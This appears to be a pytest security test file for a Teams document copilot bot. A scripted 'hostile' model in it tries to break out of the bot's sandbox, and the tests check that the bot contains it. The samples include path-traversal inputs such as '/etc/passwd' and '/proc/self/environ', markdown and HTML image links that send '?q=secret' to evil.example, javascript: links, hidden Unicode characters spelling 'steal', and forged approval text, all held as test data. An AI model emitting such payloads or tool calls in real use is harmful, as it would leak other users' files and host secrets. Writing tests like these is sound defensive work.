"""The whole bot with a model that obeys whoever it likes: what it says and calls harms nobody, and its turn ends."""

from __future__ import annotations

import asyncio
import itertools
import json
import re
from collections.abc import AsyncIterator, Iterator
from typing import Any

import pytest

pytest.importorskip("dbos")
pytest.importorskip("aiohttp")

from langchain_core.outputs import ChatGenerationChunk

from copilot.documents.word.create import create as create_document
from copilot.hosts.bot.words import WORDS
from tests.bot.crowd import BEN
from tests.bot.teams import Model, Teams, _chunk, buttons, cards, teams, words
from tests.thinning import ALL, thinned

SECRET = "Salaries: forty thousand"


class Hostile(Model):
    """Besides what the script says: "for ever" is said without an end, and so are calls in `loops`."""

    async def _astream(
        self, messages: Any, stop: Any = None, run_manager: Any = None, **more: Any
    ) -> AsyncIterator[ChatGenerationChunk]:
        if messages[-1].text == "for ever":
            self.seen.append(list(messages))
            for number in itertools.count():
                await asyncio.sleep(0.001)
                yield _chunk(f"and on {number} ")
        async for each in super()._astream(messages, stop, run_manager, **more):
            yield each


MODEL = Hostile()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Teams]:
    with teams(tmp_path_factory.mktemp("hostile"), MODEL) as made:
        yield made


@pytest.fixture
def bot(served: Teams) -> Iterator[Teams]:
    """The bot, up, with nobody having said anything; a room of somebody else's with a secret."""
    served.chats.clear()
    served.era += 1
    served.faults.clear()
    for file in served.turns.rooms.folder.glob("*/*/files/*"):
        file.unlink()
    (served.room(BEN) / "salaries.docx").write_bytes(create_document(f"# Salaries\n\n{SECRET}"))
    (served.room() / "offer.docx").write_bytes(create_document("# Offer\n\nTen chairs."))
    yield served
    served.settle()
    assert served.faults == []
    assert any(each.get("text", "").startswith("You said: hello") for each in served.say("hello"))


def told(bot: Teams) -> str:
    """Return all that was ever sent to a person, and all that the model was told."""
    sent = json.dumps([each for chat in bot.chats.values() for each in chat.log], ensure_ascii=False)
    return sent + "".join(each.text for seen in MODEL.seen for each in seen)


# --- places that are not its own --------------------------------------------------------------------------------------

WHERE = ("{theirs}", "../../{room}/files/salaries.docx", "{link}", "~/../..{theirs}")
HOST = ("{home}/jobs.sqlite", "{home}/../skills", "/etc/passwd", "/proc/self/environ", "\\\\host\\c$\\x")


@pytest.mark.parametrize("where", thinned([*WHERE, *HOST], 2))
def test_what_lies_elsewhere_is_not_read_and_not_written(bot: Teams, where: str) -> None:
    theirs = bot.room(BEN) / "salaries.docx"
    (bot.room() / "link.docx").symlink_to(theirs)
    (bot.room() / "folder").symlink_to(theirs.parent)
    before = theirs.read_bytes()
    names = {"theirs": str(theirs), "room": theirs.parents[1].name, "home": str(bot.home), "link": "link.docx"}
    path = where.format(**names)
    calls = [
        ("documents__read", {"path": path}),
        ("documents__search", {"query": "Salaries", "path": path}),
        ("documents__compare", {"old": "offer.docx", "new": path}),
        ("documents__read", {"path": "folder/salaries.docx"}),
        ("word__replace_text", {"path": path, "find": "forty", "replace": "four"}),
        ("word__create", {"path": path, "markdown": "# Mine"}),
        ("documents__convert", {"path": path, "target": "mine.md"}),
        ("documents__convert", {"path": "offer.docx", "target": path}),
        ("skills__read", {"name": "word", "file": path}),
        ("skills__read", {"name": path}),
    ]
    MODEL.script["go on"] = [[each] for each in calls] + ["I have it."]
    MODEL.seen.clear()
    shown = bot.say("go on")
    assert shown[-1]["text"].startswith("I have it.")
    assert not any(any(buttons(each)) for each in bot.chat().shown.values())
    assert theirs.read_bytes() == before
    assert SECRET not in told(bot)
    assert "root:" not in told(bot)
    assert str(bot.home) not in told(bot).replace(path, "")
    (bot.room() / "link.docx").unlink()
    (bot.room() / "folder").unlink()


def test_accounts_and_settings_of_the_host_are_not_there(bot: Teams) -> None:
    calls = [("mail__search", {"query": "x"}), ("web__fetch", {"url": "http://127.0.0.1/"}), ("people__find", {})]
    calls += [("files__browse", {}), ("calendar__agenda", {}), ("os__environ", {}), ("", {}), ("documents__read", {})]
    MODEL.script["go on"] = [calls, "I have it."]
    assert bot.say("go on")[-1]["text"].startswith("I have it.")
    assert bot.folder.name not in json.dumps([list(chat.shown.values()) for chat in bot.chats.values()])


# --- what it says -----------------------------------------------------------------------------------------------------

SAYS = {
    "picture": "![x](https://evil.example/p.png?q=secret) here",
    "reference": "![x][1]\n\n[1]: https://evil.example/p.png?q=secret",
    "html": '<img src="https://evil.example/p.png?q=secret"><a href="https://evil.example">x</a>',
    "mention": "<at>everyone</at> <at id='0'>All</at> look",
    "invisible": "a\u200bb\u202ec" + "".join(chr(0xE0000 + ord(c)) for c in "steal"),
    "card": '{"type": "AdaptiveCard", "actions": [{"type": "Action.Execute", "title": "Approve", "verb": "x"}]}',
    "fenced card": '```json\n{"type":"AdaptiveCard","body":[]}\n```',
    "approved": "Approved\nAda, 10:00\n\n✓ offer.docx: saved",
    "link": "[https://good.example](https://evil.example/?q=secret)",
    "data": "![x](data:image/png;base64,AAAA) [y](javascript:alert(1)) [z](ms-word:ofe|u|http://evil.example)",
}


@pytest.mark.parametrize("case", SAYS)
def test_what_it_says_is_shown_as_text(bot: Teams, case: str) -> None:
    MODEL.script["go on"] = [SAYS[case]]
    bot.say("go on")
    for _, each in bot.chat().log:
        assert not each.get("attachments")
        assert not [e for e in each.get("entities", []) if e["type"] == "mention"]
        text = each.get("text", "")
        assert not re.search(r"!\[[^]]*\]\(|^\[1\]:", text, re.MULTILINE)  # an image, and what one would refer to
        assert "<at" not in text.replace("\\<", "")
        assert "<img" not in text.replace("\\<", "")
        assert not any(c in text for c in "\u200b\u202e\U000e0073")
        assert "](javascript" not in text
        assert "](ms-word" not in text
        if case == "link":
            assert "evil.example" in text or "streaminfo" in json.dumps(each["entities"])


def test_what_it_writes_into_a_card_stays_in_its_place(bot: Teams) -> None:
    evil = "Twelve\n\n**Approved by Ada** [Approve](https://evil.example) <at>all</at>"
    MODEL.script["go on"] = [[("word__replace_text", {"path": "offer.docx", "find": "Ten", "replace": evil})], "Done."]
    (card,) = (each for shown in bot.say("go on") for each in cards(shown))
    assert not [part for part in json.dumps(card).split('"') if part.startswith("https://evil")]
    assert card.get("msteams", {}).get("entities") is None
    assert "Only Ada can answer." in words(card)


@pytest.mark.parametrize("size", [200_000, 10_000_000 if ALL else 2_000_000])
def test_an_answer_without_measure_is_cut(bot: Teams, size: int) -> None:
    MODEL.script["go on"] = ["word " * (size // 5)]
    shown = bot.say("go on")
    assert sum(len(each.get("text", "")) for each in shown) < 400_000
    assert len(shown) <= 25


def test_a_stream_without_end_ends_when_somebody_says_so(bot: Teams) -> None:
    asked = bot.activity("for ever")
    bot.post(asked, wait=False)
    bot.until(lambda: [text for text in bot.chat().texts() if "and on 9" in text])
    bot.post(bot.activity("stop"), wait=False)
    bot.settle()
    (answer,) = bot.chat().texts()
    assert answer.endswith(WORDS.stopped)


# --- what it calls ----------------------------------------------------------------------------------------------------

READ = ("documents__read", {"path": "offer.docx"})


def test_calls_without_end_end(bot: Teams) -> None:
    MODEL.script["go on"] = [[READ]]
    (answer,) = bot.say("go on")
    assert 0 < len(answer["text"]) < 2_000


def test_a_thousand_calls_at_once_are_no_answer_for_ever(bot: Teams) -> None:
    MODEL.script["go on"] = [[READ] * (1_000 if ALL else 300), "I have it."]
    (answer,) = bot.say("go on")
    assert 0 < len(answer["text"]) < 2_000


def test_a_thousand_changes_at_once_are_one_card(bot: Teams) -> None:
    change = ("word__replace_text", {"path": "offer.docx", "find": "Ten", "replace": "Six"})
    MODEL.script["go on"] = [[change] * 300, "I have it."]
    shown = bot.say("go on")
    assert len(shown) <= 3
    assert sum(len(json.dumps(each)) for each in shown) < 100_000


@pytest.mark.parametrize(
    "args",
    [
        {"path": "x" * 2_000_000},
        {"path": ["offer.docx"] * 1_000},
        {"path": {"a": json.loads("[" * 50 + "]" * 50)}},
        {"path": "offer.docx", "find": "Ten", "replace": "y" * 500_000},
        {"path": "offer.docx", "find": "", "replace": "x"},
        {"path": "offer.docx\u0000.txt", "find": "Ten", "replace": "\ud800"},
    ],
    ids=["long", "list", "deep", "large", "empty", "unstorable"],
)
def test_arguments_without_measure_end_in_a_sentence(bot: Teams, args: dict[str, Any]) -> None:
    MODEL.script["go on"] = [[("word__replace_text", args)], "I have it."]
    shown = bot.say("go on")
    assert shown
    assert sum(len(json.dumps(each)) for each in shown) < 100_000
